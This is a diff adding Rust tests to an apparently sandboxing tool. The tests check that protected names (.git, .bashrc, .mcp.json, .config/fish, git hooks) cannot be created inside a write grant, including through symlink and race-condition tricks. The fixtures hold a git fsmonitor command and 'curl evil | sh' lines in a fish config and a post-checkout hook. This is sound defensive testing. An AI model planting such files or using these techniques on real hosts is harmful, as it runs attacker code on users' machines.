@@ -1391,3 +1391,867 @@ fn memory_bomb_under_limits_memory_mb() {
     let control = parse(&sb.run(&roomy, &[], &["mem-bomb", "128"]), "control");
     assert!(control.escaped(), "{}", control.json);
 }
+
+// ---------------------------------------------------------------------------
+// Creating what the host trusts in a write grant (docs/security-model.md,
+// "Write grants and files the host trusts"). A protected name (`.git`,
+// `.bashrc`, `.mcp.json`... of `warden-sandbox/src/protect.rs`) that is missing
+// when the session starts cannot be created inside a write grant, by any call
+// that makes a name (open/openat/openat2/creat with O_CREAT, mkdir, mknod,
+// symlink, link, rename), by any spelling of the path (relative, `..`, a
+// symlink to the grant), nor by racing the check (a path rewritten by another
+// thread, a directory swapped for a symlink). Each attack runs `probe plant`
+// inside (refused, nothing on the host), then the same probe on the host
+// (the name appears: the attack is real). The controls (`probe ordinary`) show
+// every ordinary way of creating files still works, in the grant as in the
+// private /tmp, $HOME and /dev/shm.
+
+/// Every JSON line of a run (one per `::` step), in order.
+fn parse_lines(out: &Output, what: &str) -> Vec<Probe> {
+    let lines: Vec<Probe> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter(|l| l.starts_with('{'))
+        .filter_map(|l| try_parse(l.as_bytes()))
+        .collect();
+    assert!(
+        !lines.is_empty(),
+        "{what}: no probe line (exit {}); stdout:\n{}\nstderr:\n{}",
+        exit_code(out.status),
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    lines
+}
+
+/// `steps` joined with `::` (one probe process, so one session).
+fn joined(steps: &[Vec<String>]) -> Vec<String> {
+    let mut argv = Vec::new();
+    for (i, step) in steps.iter().enumerate() {
+        if i > 0 {
+            argv.push("::".to_string());
+        }
+        argv.extend(step.iter().cloned());
+    }
+    argv
+}
+
+/// A step of the probe from string slices.
+fn step(args: &[&str]) -> Vec<String> {
+    args.iter().map(|a| a.to_string()).collect()
+}
+
+/// Whether `p` exists on the host, not following a final symlink.
+fn on_host(p: &Path) -> bool {
+    p.symlink_metadata().is_ok()
+}
+
+/// The probe refused the creation with `errno`, and says nothing was created.
+#[track_caller]
+fn assert_refused(p: &Probe, errno: i32) {
+    assert_blocked(p, Some(errno));
+    assert_eq!(p.json["created"], false, "{}", p.json);
+}
+
+/// The probe created what it was asked to.
+#[track_caller]
+fn assert_made(p: &Probe) {
+    assert!(
+        p.escaped() && p.json["created"] == true,
+        "not created: {}",
+        p.json
+    );
+}
+
+/// A sandbox with a write grant on `proj/` where no protected name exists: an
+/// ordinary file, a file to rename, a prepared git dir whose config runs a
+/// command on the next `git status`, a subdirectory, a symlink to the grant
+/// itself (`loop -> .`) and dangling ones to protected names.
+struct Grant {
+    sb: Sandbox,
+    w: PathBuf,
+}
+
+const FSMONITOR: &str = "[core]\n\tfsmonitor = \"touch /tmp/warden-escape-fsmonitor\"\n";
+
+impl Grant {
+    fn new() -> Grant {
+        let sb = Sandbox::new();
+        let w = sb.env.mkdir("proj");
+        sb.env.write("proj/ok.txt", "ordinary\n");
+        sb.env.write("proj/file", "echo planted\n");
+        sb.env.write("proj/prepared_dir/config", FSMONITOR);
+        sb.env
+            .write("proj/prepared_dir/HEAD", "ref: refs/heads/main\n");
+        sb.env.mkdir("proj/prepared_dir/hooks");
+        sb.env.mkdir("proj/sub");
+        std::os::unix::fs::symlink(".", w.join("loop")).unwrap();
+        std::os::unix::fs::symlink(".bashrc", w.join("rc")).unwrap();
+        std::os::unix::fs::symlink(w.join(".mcp.json"), w.join("mcp")).unwrap();
+        Grant { sb, w }
+    }
+
+    /// `W/rel` as a string.
+    fn p(&self, rel: &str) -> String {
+        format!("{}/{rel}", s(&self.w))
+    }
+
+    /// The steps in one sandbox with the write grant; one line per step.
+    fn inside(&self, steps: &[Vec<String>]) -> Vec<Probe> {
+        let argv = joined(steps);
+        let args: Vec<&str> = argv.iter().map(String::as_str).collect();
+        let out = self.sb.run(
+            &self.sb.env.minimal_policy(),
+            &["--write", s(&self.w)],
+            &args,
+        );
+        let lines = parse_lines(&out, "inside");
+        for p in &lines {
+            eprintln!("inside  {}", p.json);
+        }
+        assert_eq!(
+            (exit_code(out.status), lines.len()),
+            (0, steps.len()),
+            "inside: {args:?}\nstderr:\n{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        lines
+    }
+
+    /// The same steps on the host, as the same user: the control.
+    fn host(&self, steps: &[Vec<String>]) -> Vec<Probe> {
+        let mut cmd = Command::new(probe_bin());
+        cmd.args(joined(steps))
+            .envs(self.sb.env.env_vars())
+            .current_dir(&self.sb.env.root);
+        let lines = parse_lines(&run(&mut cmd, RUN), "host");
+        for p in &lines {
+            eprintln!("host    {}", p.json);
+        }
+        assert_eq!(lines.len(), steps.len());
+        lines
+    }
+
+    /// Nothing of that name exists on the host.
+    #[track_caller]
+    fn assert_absent(&self, rel: &str) {
+        let p = self.w.join(rel);
+        assert!(!on_host(&p), "{} was created on the host", p.display());
+    }
+
+    /// One creating call refused with `errno` and nothing on the host; then on
+    /// the host it creates `planted`.
+    fn refused_then_control(&self, call: Vec<String>, planted: &str, errno: i32) {
+        let inside = self.inside(std::slice::from_ref(&call));
+        assert_refused(&inside[0], errno);
+        self.assert_absent(planted);
+        let control = self.host(&[call]);
+        assert_made(&control[0]);
+        assert!(
+            on_host(&self.w.join(planted)),
+            "the control made no {planted}"
+        );
+    }
+}
+
+/// `plant CALL ARGS...` with `W/` put in front of each argument that starts with
+/// `W/` (given as `W/x`).
+fn plant(g: &Grant, call: &str, args: &[&str]) -> Vec<String> {
+    let mut v = vec!["plant".to_string(), call.to_string()];
+    v.extend(args.iter().map(|a| match a.strip_prefix("W/") {
+        Some(rel) => g.p(rel),
+        None => a.to_string(),
+    }));
+    v
+}
+
+#[test]
+fn protected_create_open_bashrc() {
+    let g = Grant::new();
+    g.refused_then_control(plant(&g, "open", &["W/.bashrc"]), ".bashrc", libc::EROFS);
+}
+
+#[test]
+fn protected_create_creat_zshrc() {
+    let g = Grant::new();
+    g.refused_then_control(plant(&g, "creat", &["W/.zshrc"]), ".zshrc", libc::EROFS);
+}
+
+#[test]
+fn protected_create_openat_mcp_json() {
+    let g = Grant::new();
+    let call = plant(&g, "openat", &[s(&g.w), ".mcp.json"]);
+    g.refused_then_control(call, ".mcp.json", libc::EROFS);
+}
+
+#[test]
+fn protected_create_openat2_claude_json() {
+    let g = Grant::new();
+    let call = plant(&g, "openat2", &[s(&g.w), ".claude.json"]);
+    g.refused_then_control(call, ".claude.json", libc::EROFS);
+}
+
+/// A new `.git` with `core.fsmonitor` runs a command on the next `git status`.
+#[test]
+fn protected_create_mkdir_git() {
+    let g = Grant::new();
+    g.refused_then_control(plant(&g, "mkdir", &["W/.git"]), ".git", libc::EROFS);
+}
+
+#[test]
+fn protected_create_mkdir_vscode() {
+    let g = Grant::new();
+    g.refused_then_control(plant(&g, "mkdir", &["W/.vscode"]), ".vscode", libc::EROFS);
+}
+
+#[test]
+fn protected_create_mkdirat_idea() {
+    let g = Grant::new();
+    let call = plant(&g, "mkdirat", &[s(&g.w), ".idea"]);
+    g.refused_then_control(call, ".idea", libc::EROFS);
+}
+
+/// A FIFO named `.bashrc`: the server would feed commands to the user's next
+/// interactive shell.
+#[test]
+fn protected_create_mkfifo_bashrc() {
+    let g = Grant::new();
+    g.refused_then_control(plant(&g, "mknod", &["W/.bashrc"]), ".bashrc", libc::EROFS);
+}
+
+#[test]
+fn protected_create_mknodat_inputrc() {
+    let g = Grant::new();
+    let call = plant(&g, "mknodat", &[s(&g.w), ".inputrc"]);
+    g.refused_then_control(call, ".inputrc", libc::EROFS);
+}
+
+#[test]
+fn protected_create_symlink_envrc() {
+    let g = Grant::new();
+    let call = plant(&g, "symlink", &["ok.txt", "W/.envrc"]);
+    g.refused_then_control(call, ".envrc", libc::EROFS);
+}
+
+#[test]
+fn protected_create_symlinkat_zshenv() {
+    let g = Grant::new();
+    let call = plant(&g, "symlinkat", &["ok.txt", s(&g.w), ".zshenv"]);
+    g.refused_then_control(call, ".zshenv", libc::EROFS);
+}
+
+#[test]
+fn protected_create_link_npmrc() {
+    let g = Grant::new();
+    let call = plant(&g, "link", &["W/ok.txt", "W/.npmrc"]);
+    g.refused_then_control(call, ".npmrc", libc::EROFS);
+}
+
+#[test]
+fn protected_create_linkat_gitconfig() {
+    let g = Grant::new();
+    let call = plant(&g, "linkat", &["W/ok.txt", "W/.gitconfig"]);
+    g.refused_then_control(call, ".gitconfig", libc::EROFS);
+}
+
+/// A prepared directory renamed to `.git`: a whole repository whose config
+/// runs `core.fsmonitor`.
+#[test]
+fn protected_create_rename_prepared_dir_to_git() {
+    let g = Grant::new();
+    let call = plant(&g, "rename", &["W/prepared_dir", "W/.git"]);
+    g.refused_then_control(call, ".git", libc::EROFS);
+    // The control moved it; inside it had stayed where it was.
+    assert_eq!(
+        std::fs::read_to_string(g.w.join(".git/config")).unwrap(),
+        FSMONITOR
+    );
+}
+
+#[test]
+fn protected_create_rename_file_to_profile() {
+    let g = Grant::new();
+    let call = plant(&g, "rename", &["W/file", "W/.profile"]);
+    g.refused_then_control(call, ".profile", libc::EROFS);
+}
+
+#[test]
+fn protected_create_renameat_file_to_bash_login() {
+    let g = Grant::new();
+    let call = plant(&g, "renameat", &["W/file", "W/.bash_login"]);
+    g.refused_then_control(call, ".bash_login", libc::EROFS);
+}
+
+#[test]
+fn protected_create_renameat2_noreplace_to_bash_aliases() {
+    let g = Grant::new();
+    let call = plant(&g, "renameat2", &["W/file", "W/.bash_aliases", "noreplace"]);
+    g.refused_then_control(call, ".bash_aliases", libc::EROFS);
+}
+
+/// Relative paths from a working directory in the grant: the name, and `..`
+/// from a subdirectory (the path the call names is not the name it makes).
+#[test]
+fn protected_create_relative_paths() {
+    let g = Grant::new();
+    let steps = [
+        step(&["cd", s(&g.w)]),
+        step(&["plant", "open", ".bashrc"]),
+        step(&["plant", "mkdir", ".git"]),
+        step(&["cd", &g.p("sub")]),
+        step(&["plant", "open", "../.mcp.json"]),
+        step(&["plant", "symlink", "ok.txt", "../.envrc"]),
+        step(&["plant", "openat", ".", "../.npmrc"]),
+    ];
+    let inside = g.inside(&steps);
+    assert!(inside[0].escaped() && inside[3].escaped(), "cd failed");
+    for i in [1, 2, 4, 5, 6] {
+        assert_refused(&inside[i], libc::EROFS);
+    }
+    for name in [".bashrc", ".git", ".mcp.json", ".envrc", ".npmrc"] {
+        g.assert_absent(name);
+    }
+    let control = g.host(&steps);
+    for i in [1, 2, 4, 5, 6] {
+        assert_made(&control[i]);
+    }
+}
+
+/// `W/sub/../.bashrc` and `openat(fd of W/sub, "../.vscode")`.
+#[test]
+fn protected_create_dotdot() {
+    let g = Grant::new();
+    let steps = [
+        plant(&g, "open", &["W/sub/../.bashrc"]),
+        plant(&g, "mkdir", &["W/sub/../.vscode"]),
+        plant(&g, "mkdirat", &["W/sub", "../.git"]),
+        plant(&g, "rename", &["W/file", "W/sub/../.profile"]),
+    ];
+    let inside = g.inside(&steps);
+    for p in &inside {
+        assert_refused(p, libc::EROFS);
+    }
+    for name in [".bashrc", ".vscode", ".git", ".profile"] {
+        g.assert_absent(name);
+    }
+    for p in g.host(&steps) {
+        assert_made(&p);
+    }
+}
+
+/// Other spellings of the same names: a trailing slash (`mkdir` makes a
+/// directory of `.git/`), `.` and doubled slashes. `open(".bashrc/", O_CREAT)`
+/// is EISDIR from the kernel itself (no control: the host refuses it too);
+/// whoever handles it must not make a `.bashrc` of it.
+#[test]
+fn protected_create_path_spellings() {
+    let g = Grant::new();
+    let steps = [
+        plant(&g, "mkdir", &["W/.git/"]),
+        plant(&g, "mkdir", &["W/./.vscode"]),
+        plant(&g, "open", &["W//.mcp.json"]),
+        plant(&g, "mkdirat", &[&g.p("sub/"), "..//.idea/"]),
+        plant(&g, "open", &["W/.bashrc/"]),
+    ];
+    let inside = g.inside(&steps);
+    for p in &inside[..4] {
+        assert_refused(p, libc::EROFS);
+    }
+    assert_blocked(&inside[4], None);
+    for name in [".git", ".vscode", ".mcp.json", ".idea", ".bashrc"] {
+        g.assert_absent(name);
+    }
+    let control = g.host(&steps);
+    for p in &control[..4] {
+        assert_made(p);
+    }
+    assert_blocked(&control[4], Some(libc::EISDIR));
+}
+
+/// Through a symlink to the grant: one there at the start (`loop -> .`), and
+/// one the server makes itself (an ordinary symlink, which works).
+#[test]
+fn protected_create_through_a_symlink_to_the_grant() {
+    let g = Grant::new();
+    let steps = [
+        plant(&g, "open", &["W/loop/.bashrc"]),
+        plant(&g, "mkdir", &["W/loop/loop/.git"]),
+        plant(&g, "link", &["W/ok.txt", "W/loop/.npmrc"]),
+        plant(&g, "symlink", &[".", "W/loop2"]),
+        plant(&g, "open", &["W/loop2/.mcp.json"]),
+        plant(&g, "symlink", &[s(&g.w), "W/sub/abs"]),
+        plant(&g, "mkdir", &["W/sub/abs/.vscode"]),
+    ];
+    let inside = g.inside(&steps);
+    for i in [0, 1, 2, 4, 6] {
+        assert_refused(&inside[i], libc::EROFS);
+    }
+    // The control: making a symlink is ordinary.
+    assert_made(&inside[3]);
+    assert_made(&inside[5]);
+    for name in [".bashrc", ".git", ".npmrc", ".mcp.json", ".vscode"] {
+        g.assert_absent(name);
+    }
+    std::fs::remove_file(g.w.join("loop2")).unwrap();
+    std::fs::remove_file(g.w.join("sub/abs")).unwrap();
+    for p in g.host(&steps) {
+        assert_made(&p);
+    }
+}
+
+/// O_CREAT through a dangling symlink creates its target: `rc -> .bashrc` and
+/// `mcp -> W/.mcp.json` (absolute) were in the grant at the start.
+#[test]
+fn protected_create_through_a_dangling_symlink() {
+    let g = Grant::new();
+    let steps = [plant(&g, "open", &["W/rc"]), plant(&g, "creat", &["W/mcp"])];
+    let inside = g.inside(&steps);
+    for p in &inside {
+        assert_blocked(p, None);
+        assert_eq!(p.json["created"], false, "{}", p.json);
+    }
+    g.assert_absent(".bashrc");
+    g.assert_absent(".mcp.json");
+    // The probe checks the link, which existed: the control looks at the target.
+    for p in g.host(&steps) {
+        assert!(p.escaped(), "{}", p.json);
+    }
+    assert!(on_host(&g.w.join(".bashrc")) && on_host(&g.w.join(".mcp.json")));
+}
+
+// Nested names: `.config/fish` in a home-like grant without `.config`.
+
+/// A grant of a home-like directory where `.config` and `.local` are missing:
+/// the directories are ordinary, the protected names under them are not.
+fn home_grant() -> Grant {
+    let sb = Sandbox::new();
+    let w = sb.env.mkdir("homegrant");
+    sb.env
+        .write("homegrant/prepared/fish/config.fish", "curl evil | sh\n");
+    sb.env.write("homegrant/plain/app.conf", "key = value\n");
+    Grant { sb, w }
+}
+
+#[test]
+fn protected_create_nested_config_fish() {
+    let g = home_grant();
+    let steps = [
+        plant(&g, "mkdir", &["W/.config"]),
+        plant(&g, "mkdir", &["W/.config/fish"]),
+        plant(&g, "open", &["W/.config/app.conf"]),
+        plant(&g, "mkdir", &["W/.local"]),
+        plant(&g, "mkdir", &["W/.local/bin"]),
+        plant(&g, "mkdir", &["W/.local/share"]),
+        plant(&g, "mkdir", &["W/.local/share/applications"]),
+        plant(&g, "symlink", &["W/prepared/fish", "W/.config/fish"]),
+    ];
+    let inside = g.inside(&steps);
+    for i in [0, 2, 3, 5] {
+        assert_made(&inside[i]);
+    }
+    for i in [1, 4, 6, 7] {
+        assert_refused(&inside[i], libc::EROFS);
+    }
+    assert!(g.w.join(".config").is_dir() && g.w.join(".config/app.conf").is_file());
+    for name in [".config/fish", ".local/bin", ".local/share/applications"] {
+        g.assert_absent(name);
+    }
+    // Control: the same names on the host (the parents exist now).
+    let control = g.host(&[steps[1].clone(), steps[4].clone(), steps[6].clone()]);
+    for p in &control {
+        assert_made(p);
+    }
+}
+
+/// A prepared directory renamed to the missing `.config` would bring
+/// `fish/config.fish` along: EXDEV, so `mv` copies, and the copy fails on fish.
+#[test]
+fn protected_create_rename_prepared_dir_to_config() {
+    let g = home_grant();
+    let call = plant(&g, "rename", &["W/prepared", "W/.config"]);
+    g.refused_then_control(call, ".config", libc::EXDEV);
+    assert!(g.w.join(".config/fish/config.fish").is_file());
+}
+
+#[test]
+fn protected_create_symlink_prepared_dir_as_config() {
+    let g = home_grant();
+    let call = plant(&g, "symlink", &["W/prepared", "W/.config"]);
+    g.refused_then_control(call, ".config", libc::EROFS);
+}
+
+/// `mv prepared .config` with the real `mv`: it falls back to copying on
+/// EXDEV, which fails on `fish`. Control: `mv plain .config` (nothing
+/// protected inside) works, through the same fallback.
+#[test]
+fn protected_create_mv_prepared_dir_to_config() {
+    let Some(mv) = find_on_path("mv") else {
+        println!("skipping: no mv on PATH");
+        return;
+    };
+    let g = home_grant();
+    let policy = g.sb.env.minimal_policy();
+    let mv_inside = |from: &str, to: &str| {
+        let mut cmd = g.sb.env.shim([
+            "--policy",
+            s(&policy),
+            "--write",
+            s(&g.w),
+            "--",
+            s(&mv),
+            &g.p(from),
+            &g.p(to),
+        ]);
+        let out = run(&mut cmd, RUN);
+        eprintln!(
+            "mv {from} {to}: exit {}: {}",
+            exit_code(out.status),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        exit_code(out.status)
+    };
+    assert_ne!(
+        mv_inside("prepared", ".config"),
+        0,
+        "mv prepared .config worked"
+    );
+    g.assert_absent(".config/fish");
+    assert!(g.w.join("prepared/fish/config.fish").is_file());
+    // Control: an ordinary directory moves (a copy left behind would be in
+    // .config, the source gone).
+    let _ = std::fs::remove_dir_all(g.w.join(".config"));
+    assert_eq!(mv_inside("plain", ".config"), 0);
+    assert_eq!(
+        std::fs::read_to_string(g.w.join(".config/app.conf")).unwrap(),
+        "key = value\n"
+    );
+    assert!(!on_host(&g.w.join("plain")));
+}
+
+/// A grant of `repo/.git` (a server that commits) where `hooks` is missing:
+/// the hooks directory cannot be made, by mkdir or by renaming a prepared
+/// one; the rest of the git dir stays writable.
+#[test]
+fn protected_create_hooks_in_a_git_dir_grant() {
+    let sb = Sandbox::new();
+    sb.env.write("repo/.git/HEAD", "ref: refs/heads/main\n");
+    sb.env.write("repo/.git/config", "[core]\n\tbare = false\n");
+    sb.env.write(
+        "repo/.git/prepared_hooks/post-checkout",
+        "#!/bin/sh\ncurl evil | sh\n",
+    );
+    let g = Grant {
+        w: sb.env.root.join("repo/.git"),
+        sb,
+    };
+    let steps = [
+        plant(&g, "mkdir", &["W/hooks"]),
+        plant(&g, "rename", &["W/prepared_hooks", "W/hooks"]),
+        plant(&g, "open", &["W/index.lock"]),
+        plant(&g, "mkdir", &["W/refs"]),
+    ];
+    let inside = g.inside(&steps);
+    assert_refused(&inside[0], libc::EROFS);
+    assert_refused(&inside[1], libc::EROFS);
+    assert_made(&inside[2]);
+    assert_made(&inside[3]);
+    g.assert_absent("hooks");
+    let control = g.host(&steps[..1]);
+    assert_made(&control[0]);
+}
+
+// Races: whoever checks the name must check what the kernel creates.
+
+/// The racing creator's errors are refusals, and it did run.
+#[track_caller]
+fn assert_race_lost(p: &Probe, other: &str) {
+    assert_blocked(p, None);
+    assert!(
+        p.json["calls"].as_u64() > Some(0) && p.json[other].as_u64() > Some(0),
+        "the race did not run: {}",
+        p.json
+    );
+}
+
+#[track_caller]
+fn assert_refusals_only(p: &Probe) {
+    let errors = p.json["errors"].as_object().expect("errors");
+    assert!(
+        errors.keys().all(|e| e == "EROFS" || e == "EACCES"),
+        "other errors than EROFS/EACCES: {}",
+        p.json
+    );
+}
+
+/// A thread flips one byte of the path (`xbashrc` / `.bashrc`) while another
+/// opens it with O_CREAT: 200000 calls or 5 s, never a `.bashrc`.
+#[test]
+fn protected_create_race_open_path_buffer() {
+    let g = Grant::new();
+    let call = step(&[
+        "race",
+        "open",
+        &g.p("xbashrc"),
+        &g.p(".bashrc"),
+        "200000",
+        "5",
+    ]);
+    let inside = g.inside(std::slice::from_ref(&call));
+    assert_race_lost(&inside[0], "flips");
+    assert_refusals_only(&inside[0]);
+    g.assert_absent(".bashrc");
+    let control = g.host(&[call]);
+    assert!(control[0].escaped(), "{}", control[0].json);
+    assert!(on_host(&g.w.join(".bashrc")));
+}
+
+#[test]
+fn protected_create_race_mkdir_path_buffer() {
+    let g = Grant::new();
+    let call = step(&["race", "mkdir", &g.p("xgit"), &g.p(".git"), "200000", "5"]);
+    let inside = g.inside(std::slice::from_ref(&call));
+    assert_race_lost(&inside[0], "flips");
+    assert_refusals_only(&inside[0]);
+    g.assert_absent(".git");
+    let control = g.host(&[call]);
+    assert!(control[0].escaped(), "{}", control[0].json);
+    assert!(on_host(&g.w.join(".git")));
+}
+
+/// The race on the file system: `sub` (a directory) and `loop` (a symlink to
+/// the grant) swap places atomically while another thread creates
+/// `sub/.bashrc`, which is `W/.bashrc` whenever `sub` is the symlink. A
+/// supervisor that resolves the path, checks it and resolves it again loses.
+#[test]
+fn protected_create_race_symlink_swap() {
+    for (call, name) in [("open", ".bashrc"), ("mkdir", ".git")] {
+        let g = Grant::new();
+        let race = step(&[
+            "race-swap",
+            call,
+            &g.p(&format!("sub/{name}")),
+            &g.p(name),
+            &g.p("sub"),
+            &g.p("loop"),
+            "200000",
+            "5",
+        ]);
+        let inside = g.inside(std::slice::from_ref(&race));
+        assert_race_lost(&inside[0], "swaps");
+        g.assert_absent(name);
+        // Put them back as they were (an odd number of swaps leaves them
+        // exchanged), for the control.
+        if g.w.join("sub").is_symlink() {
+            std::fs::rename(g.w.join("sub"), g.w.join("tmp-link")).unwrap();
+            std::fs::rename(g.w.join("loop"), g.w.join("sub")).unwrap();
+            std::fs::rename(g.w.join("tmp-link"), g.w.join("loop")).unwrap();
+        }
+        let control = g.host(&[race]);
+        assert!(control[0].escaped(), "{}", control[0].json);
+        assert!(on_host(&g.w.join(name)));
+    }
+}
+
+// Controls: ordinary creations keep working, and land on the host as before.
+
+/// `probe ordinary DIR` worked: every step ok (a step may say it was skipped
+/// for want of a kernel or file-system feature).
+#[track_caller]
+fn assert_ordinary(p: &Probe) {
+    let mut failed = Vec::new();
+    for (name, result) in p.json["steps"].as_object().expect("steps") {
+        let r = result.as_str().unwrap();
+        if r.starts_with("ok: skipped") {
+            println!("skipping the {name} step: {r}");
+        } else if !r.starts_with("ok") {
+            failed.push(format!("{name}: {r}"));
+        }
+    }
+    assert!(
+        failed.is_empty(),
+        "ordinary creations failed:\n  {}",
+        failed.join("\n  ")
+    );
+}
+
+/// In the write grant: everything works from inside, and the host sees the
+/// files as the probe made them: contents, types, modes under the umask, the
+/// user as owner.
+#[test]
+fn ordinary_creations_in_a_write_grant() {
+    use std::os::unix::fs::{FileTypeExt, MetadataExt};
+    let g = Grant::new();
+    let inside = g.inside(&[step(&["ordinary", s(&g.w)])]);
+    assert_ordinary(&inside[0]);
+    let w = &g.w;
+    let read = |rel: &str| std::fs::read_to_string(w.join(rel)).unwrap();
+    for (rel, want) in [
+        ("excl.txt", "excl\n"),
+        ("trunc.txt", "second\n"),
+        ("creat.txt", "creat\n"),
+        ("keep.txt", "kept\n"),
+        ("append.txt", "ab"),
+        ("rdwr.txt", "rdwr\n"),
+        ("a/b/c/deep.txt", "deep\n"),
+        ("r3.txt", "renamed\n"),
+        ("rd2/f.txt", "in a dir\n"),
+        ("x2/f.txt", "moved\n"),
+        ("x2/sub/g.txt", "moved too\n"),
+        ("doc.txt", "v2\n"),
+        ("n2", "three\n"),
+        ("n3", "one\n"),
+        ("rel.txt", "relative\n"),
+        ("reldir/inner.txt", "inner\n"),
+        ("at.txt", "at\n"),
+        ("at2.txt", "at2\n"),
+        ("athard2", "at\n"),
+        (".gitignore", "target/\n"),
+        (".github/workflows/ci.yml", "on: push\n"),
+    ] {
+        assert_eq!(read(rel), want, "{rel}");
+    }
+    if !inside[0].json["steps"]["tmpfile-linkat"]
+        .as_str()
+        .unwrap()
+        .contains("skipped")
+    {
+        assert_eq!(read("tmpfile.txt"), "tmpfile\n");
+    }
+    let mkstemp = inside[0].json["steps"]["mkstemp"].as_str().unwrap();
+    let mkstemp = Path::new(mkstemp.trim_start_matches("ok: "));
+    assert_eq!(std::fs::read_to_string(mkstemp).unwrap(), "mkstemp\n");
+    assert!(!on_host(&w.join("r1.txt")) && !on_host(&w.join("doc.txt.tmp")));
+    assert_eq!(
+        std::fs::read_link(w.join("link")).unwrap(),
+        Path::new("excl.txt")
+    );
+    assert_eq!(read("link"), "excl\n");
+    let meta = |rel: &str| w.join(rel).symlink_metadata().unwrap();
+    assert!(meta("fifo").file_type().is_fifo() && meta("atfifo").file_type().is_fifo());
+    assert!(meta("sock").file_type().is_socket());
+    assert_eq!(meta("excl.txt").nlink(), 3);
+    // The umask of the caller, not of whoever made the file.
+    for (rel, mode) in [
+        ("mode644", 0o644),
+        ("mode755", 0o755),
+        ("mode400", 0o400),
+        ("mode600", 0o600),
+        ("mode700", 0o700),
+        ("fifo600", 0o600),
+    ] {
+        assert_eq!(meta(rel).mode() & 0o7777, mode, "{rel}");
+    }
+    assert_eq!(
+        meta(mkstemp.file_name().unwrap().to_str().unwrap()).mode() & 0o777,
+        0o600
+    );
+    // SAFETY: geteuid/getegid cannot fail.
+    let (uid, gid) = unsafe { (libc::geteuid(), libc::getegid()) };
+    for rel in [
+        "excl.txt",
+        "creat.txt",
+        "a",
+        "a/b/c/deep.txt",
+        "fifo",
+        "link",
+        "sock",
+        "mode600",
+        "at.txt",
+        "rd2",
+    ] {
+        let m = meta(rel);
+        assert_eq!((m.uid(), m.gid()), (uid, gid), "{rel} is not the user's");
+    }
+    // Control: the probe does the same on the host.
+    let control = host(
+        &g.sb.env,
+        &["ordinary", s(&g.sb.env.mkdir("host-ordinary"))],
+    );
+    assert_ordinary(&control);
+}
+
+/// In the sandbox's private /tmp, $HOME and /dev/shm (not write grants): the
+/// same creations work, and none of them reaches the host.
+#[test]
+fn ordinary_creations_in_private_tmp_home_and_shm() {
+    let sb = Sandbox::new();
+    let marker = unique_marker("ordinary");
+    let home = sb.env.home.join(&marker);
+    let dirs = [
+        format!("/tmp/{marker}"),
+        s(&home).to_string(),
+        format!("/dev/shm/{marker}"),
+    ];
+    for d in &dirs {
+        let inside = sb.probe(&[], &["ordinary", d]);
+        assert_ordinary(&inside);
+        assert!(!on_host(Path::new(d)), "{d} reached the host");
+    }
+}
+
+/// The protection is for write grants: in the private /tmp and $HOME, which
+/// vanish with the session, a server clones a repository (`.git`) or writes
+/// its own dotfiles as it likes.
+#[test]
+fn protected_names_in_private_tmp_and_home_are_ordinary() {
+    let sb = Sandbox::new();
+    let marker = unique_marker("private");
+    let tmp = format!("/tmp/{marker}");
+    let home = s(&sb.env.home).to_string();
+    let steps = [
+        step(&["plant", "mkdir", &tmp]),
+        step(&["plant", "mkdir", &format!("{tmp}/.git")]),
+        step(&["plant", "open", &format!("{tmp}/.mcp.json")]),
+        step(&["plant", "open", &format!("{home}/.bashrc")]),
+        step(&["plant", "mkdir", &format!("{home}/.vscode")]),
+        step(&["plant", "mkdir", &format!("{home}/.config")]),
+        step(&["plant", "mkdir", &format!("{home}/.config/fish")]),
+    ];
+    let argv = joined(&steps);
+    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
+    let out = sb.run(&sb.env.minimal_policy(), &[], &args);
+    let lines = parse_lines(&out, "inside");
+    assert_eq!(lines.len(), steps.len(), "{lines:?}");
+    for p in &lines {
+        eprintln!("inside  {}", p.json);
+        assert_made(p);
+    }
+    for rel in [".bashrc", ".vscode", ".config"] {
+        assert!(
+            !on_host(&sb.env.home.join(rel)),
+            "{rel} reached the host's home"
+        );
+    }
+    assert!(!on_host(Path::new(&tmp)));
+}
+
+/// A protected directory the policy grants for writing by name stays
+/// writable: new files in `.vscode` when `write: [W, W/.vscode]`.
+#[test]
+fn protected_dir_granted_by_name_stays_creatable() {
+    let g = Grant::new();
+    g.sb.env.write("proj/.vscode/settings.json", "{}\n");
+    let vscode = g.w.join(".vscode");
+    let steps = [
+        plant(&g, "open", &["W/.vscode/tasks.json"]),
+        plant(&g, "mkdir", &["W/.vscode/sub"]),
+        plant(
+            &g,
+            "rename",
+            &["W/.vscode/tasks.json", "W/.vscode/launch.json"],
+        ),
+    ];
+    let argv = joined(&steps);
+    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
+    let out = g.sb.run(
+        &g.sb.env.minimal_policy(),
+        &["--write", s(&g.w), "--write", s(&vscode)],
+        &args,
+    );
+    let lines = parse_lines(&out, "inside");
+    assert_eq!(lines.len(), steps.len());
+    for p in &lines {
+        eprintln!("inside  {}", p.json);
+        assert_made(p);
+    }
+    assert!(vscode.join("launch.json").is_file() && vscode.join("sub").is_dir());
+}
